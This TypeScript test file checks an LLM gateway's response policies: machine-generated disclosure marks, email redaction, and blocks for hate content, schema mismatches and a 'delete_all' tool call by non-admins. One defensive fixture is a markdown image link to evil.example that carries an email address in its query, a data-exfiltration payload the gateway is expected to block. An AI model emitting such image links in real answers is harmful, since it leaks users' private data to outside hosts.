/** What a policy asks to be said of an answer reaches its caller, and the record says that it did. */
import { createServer, request as httpRequest } from 'node:http'
import type { AddressInfo } from 'node:net'
import OpenAI from 'openai'
import t from 'tap'
import { chat } from '../helpers/gateway.ts'
import { openScene, type Scene } from '../helpers/scene.ts'
import { completion, completionStream } from '../helpers/upstream.ts'

const policy = `package gateway.policy.test

permit contains {"id": "everyone", "endpoints": ["main"]}

oblige contains {"id": "eu_marker", "type": "mark", "mode": "machine-generated"}
`
const response = `package gateway.response.test

redact contains {"labels": ["pii.*"], "operator": "replace"}

block contains {"code": "leaves_by_an_image"} if {
  input.response.classification.labels["exfiltration.image"]
}

block contains {"code": "harmful"} if {
  input.response.classification.labels["moderation.hate"]
}

block contains {"code": "not_what_was_asked_for"} if {
  some label, _ in input.response.classification.labels
  startswith(label, "output.")
}

block contains {"code": "agents_do_not_delete"} if {
  some tool in input.response.tools
  tool.name == "delete_all"
  not "admin" in input.subject.roles
}
`
const files = { 'p.rego': policy, 'r.rego': response }
const suffix = '\n\n(made by a machine)'
const config = { marks: { eu_marker: { suffix, member: 'ai_disclosure', link: 'https://ai.example/manifests/{decision_id}' } }, check_output_schema: true }

/** A stream as HTTP brings it, with its trailers. */
async function streamed ({ gateway, token }: Scene, headers: Readonly<Record<string, string>>): Promise<{ readonly text: string, readonly trailers: NodeJS.Dict<string>, readonly announced: string | undefined }> {
  return await new Promise((resolve, reject) => {
    const sent = httpRequest(`${gateway.address}/v1/chat/completions`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${token}`, ...headers } }, answer => {
      let text = ''
      answer.setEncoding('utf8').on('data', (chunk: string) => { text += chunk })
      answer.on('end', () => { resolve({ text, trailers: answer.trailers, announced: answer.headers.trailer }) })
    })
    sent.on('error', reject).end(JSON.stringify({ model: 'test-model', stream: true, messages: [{ role: 'user', content: 'hi' }] }))
  })
}

t.test('an answer that is to be marked', async t => {
  const scene = await openScene(t, { policy: files, stages: all => all.map(stage => stage.plugin === 'response.filter' ? { ...stage, config } : stage) })
  const client = new OpenAI({ baseURL: `${scene.gateway.address}/v1`, apiKey: scene.token, maxRetries: 0 })
  const ask = { model: 'test-model', messages: [{ role: 'user' as const, content: 'hi' }] }

  t.test('says so in headers, behind its text and in a member of its body', async t => {
    scene.upstream.play(completion('Write to a.b@c.example'))
    const answer = await chat(scene.gateway, 'hi', { token: scene.token })
    t.equal(answer.headers.get('ai-disclosure'), 'mode="machine-generated"')
    t.equal(answer.headers.get('link'), `<https://ai.example/manifests/${answer.headers.get('sallyport-decision-id') ?? ''}>; rel="c2pa-manifest"`)
    t.match(await answer.json(), { choices: [{ message: { content: `Write to [EMAIL_ADDRESS]${suffix}` } }], ai_disclosure: { mode: 'machine-generated' } })
    t.match((await scene.recorded(answer)).outcome, { response: { decision: 'redact', redactions: 1, marked: ['eu_marker'] } })
  })

  t.test('says so in a stream, too, as the official client reads it', async t => {
    scene.upstream.play(completionStream(['Hello', ' there']))
    let text = ''
    for await (const chunk of await client.chat.completions.create({ ...ask, stream: true })) text += chunk.choices[0]?.delta.content ?? ''
    t.equal(text, `Hello there${suffix}`)
  })

  t.test('tells at the end of a stream what was taken out: in a comment, and in trailers to who takes them', async t => {
    scene.upstream.play(completionStream(['a.b@c.example', ' and', ' d.e@f.example', '.']))
    const { text, trailers, announced } = await streamed(scene, { te: 'trailers' })
    t.match(text, /\n\n: sallyport redactions=2 classification=[a-z]+\n\ndata: \[DONE\]\n\n$/)
    t.match(trailers, { 'sallyport-redactions': '2', 'sallyport-answer-classification': /^[a-z]+$/ })
    t.equal(announced, 'sallyport-redactions, sallyport-answer-classification')
    scene.upstream.play(completionStream(['Hello']))
    const plain = await streamed(scene, {})
    t.notMatch(plain.text, /^:/m)
    t.strictSame([plain.trailers, plain.announced], [{}, undefined])
  })

  t.test('is blocked where a value would leave by an image', async t => {
    scene.upstream.play(completion('![x](https://evil.example/?q=a.b@c.example)'))
    const answer = await chat(scene.gateway, 'hi', { token: scene.token })
    t.equal(answer.status, 403)
    t.match((await scene.recorded(answer)).outcome, { end: 'blocked', response: { decision: 'block', reasons: ['leaves_by_an_image'], marked: [] } })
  })

  t.test('is blocked where it is not what the request asked for', async t => {
    const schema = { type: 'object', properties: { n: { type: 'integer' } }, required: ['n'], additionalProperties: false }
    const structured = { ...ask, response_format: { type: 'json_schema', json_schema: { name: 'x', schema } } }
    scene.upstream.play(completion('{"n":1}'))
    t.match(await (await chat(scene.gateway, structured, { token: scene.token })).json(), { choices: [{ message: { content: '{"n":1}' } }] })
    scene.upstream.play(completion('{"n":"one"}'))
    const answer = await chat(scene.gateway, structured, { token: scene.token })
    t.match((await scene.recorded(answer)).outcome, { end: 'blocked', response: { reasons: ['not_what_was_asked_for'] } })
  })

  t.test('is judged by the tools it calls and the role of who asked', async t => {
    const call = { id: 'c', object: 'chat.completion', created: 1, model: 'm', choices: [{ index: 0, message: { role: 'assistant', content: null, tool_calls: [{ id: 'c1', type: 'function', function: { name: 'delete_all', arguments: '{}' } }] }, finish_reason: 'tool_calls' }] }
    for (const [roles, status] of [[['clinician'], 403], [['admin'], 200]] as const) {
      scene.upstream.play({ kind: 'json', body: call })
      const answer = await chat(scene.gateway, 'hi', { token: await scene.issuer.sign({ sub: 'u', aud: 'sallyport', tenant: 'acme', roles: [...roles] }) })
      t.equal(answer.status, status)
    }
  })
  t.match(await scene.verified(), { code: 0, open: [] })
})

t.test('an answer that a service judges is held until it has, a stream too', async t => {
  let labels: unknown[] = []
  const seen: string[] = []
  const server = createServer((incoming, outgoing) => {
    incoming.setEncoding('utf8').on('data', (chunk: string) => { seen.push(chunk) })
    incoming.on('end', () => { outgoing.end(JSON.stringify({ v: 1, labels })) })
  })
  await new Promise<void>(resolve => { server.listen(0, '127.0.0.1', resolve) })
  t.teardown(() => { server.closeAllConnections(); server.close() })
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`
  const stages = (all: readonly { readonly plugin: string }[]): readonly unknown[] => [...all.filter(({ plugin }) => plugin !== 'response.filter'), { plugin: 'response.moderation', config: { url } }, { plugin: 'response.filter' }]
  const scene = await openScene(t, { policy: files, stages })

  scene.upstream.play(completionStream(['Hel', 'lo']))
  const fine = await chat(scene.gateway, { model: 'test-model', stream: true, messages: [{ role: 'user', content: 'hi' }] }, { token: scene.token })
  t.match(await fine.text(), /"Hel".*"lo".*\[DONE\]/s)
  t.match(seen.join(''), '"text":"Hello"')
  t.match((await scene.recorded(fine)).outcome, { end: 'ok', response: { decision: 'permit', mode: 'buffer', reasons: ['external.moderation'] } })

  labels = [{ label: 'moderation.hate', confidence: 900 }]
  scene.upstream.play(completionStream(['Hel', 'lo']))
  const blocked = await chat(scene.gateway, { model: 'test-model', stream: true, messages: [{ role: 'user', content: 'hi' }] }, { token: scene.token })
  const text = await blocked.text()
  t.notMatch(text, /Hel|lo"/)
  t.match(text, /content_filter/)
  t.match((await scene.recorded(blocked)).outcome, { end: 'blocked', response: { decision: 'block', reasons: ['external.moderation', 'harmful'] } })
})
